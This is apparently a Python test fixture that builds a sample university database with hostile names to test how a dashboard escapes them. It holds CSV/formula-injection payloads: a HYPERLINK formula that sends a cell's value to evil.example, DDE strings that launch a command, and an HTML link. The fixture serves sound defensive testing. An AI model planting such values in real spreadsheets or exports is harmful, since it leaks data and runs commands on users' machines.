"""A fixture university with hostile names (issue 9), for the dashboard and browser tests:
the same files as ``fixture_database`` with a network named as an HTML link, an alliance and
a programme named as live spreadsheet formulas, and a faculty named as a DDE command.
"""

from __future__ import annotations

import csv
from pathlib import Path

from etl.pipeline import load_files
from etl.settings import Settings
from tests.dashboard.fixture_database import write_fixture_files

HOSTILE_NETWORK = '<a href="https://evil.example/">Official report</a>'
HOSTILE_PROGRAMME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_FACULTY = "+cmd|' /C calc'!A0"
HOSTILE_ALLIANCE = "@SUM(1+1)*cmd|' /C calc'!A0"


def build_hostile_database(database: Path, work_folder: Path) -> Path:
    """The fixture university with hostile names: the LERU network named as an HTML link,
    the EUniWell alliance and a programme named as live formulas, the Humanities faculty
    named as a DDE command."""
    folder = write_fixture_files(work_folder)
    for name, old, new in (
        ("networks.csv", "League of European Research Universities", HOSTILE_NETWORK),
        ("networks.csv", "EUniWell", HOSTILE_ALLIANCE),
        ("programmes.csv", "History", HOSTILE_PROGRAMME),
        ("programmes.csv", "Humanities", HOSTILE_FACULTY),
        ("staff.csv", "Humanities", HOSTILE_FACULTY),
    ):
        with (folder / name).open(encoding="utf-8") as handle:
            rows = [[new if cell == old else cell for cell in row] for row in csv.reader(handle)]
        with (folder / name).open("w", newline="", encoding="utf-8") as handle:
            csv.writer(handle).writerows(rows)
    settings = Settings.from_env({}, database=database, lock_timeout=5)
    load_files([folder], settings, demo=True, fresh=True)
    return database
